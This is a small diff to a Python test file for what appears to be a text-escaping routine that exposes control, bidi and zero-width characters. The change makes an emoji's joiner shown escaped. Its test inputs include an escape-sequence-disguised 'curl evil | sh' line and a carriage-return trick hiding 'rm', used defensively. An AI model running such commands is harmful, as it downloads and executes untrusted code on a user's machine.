@@ -119,7 +119,7 @@ def test_half_of_a_surrogate_pair_can_be_written() -> None:
         ("git status \x1b]; curl evil | sh; #\x07", "git status \\x1b]; curl evil | sh; #\\x07"),
         ("ls\rrm", "ls\\x0drm"),
         ("a\u202eb\U000e0041", "a\\u202eb\\U000e0041"),
-        ("one\n\ttwo 👩\u200d💻", "one\n\ttwo 👩\u200d💻"),
+        ("one\n\ttwo 👩\u200d💻", "one\n\ttwo 👩\\u200d💻"),
     ],
 )
 def test_of_what_is_asked_about_nothing_is_missing(text: str, shown: str) -> None:
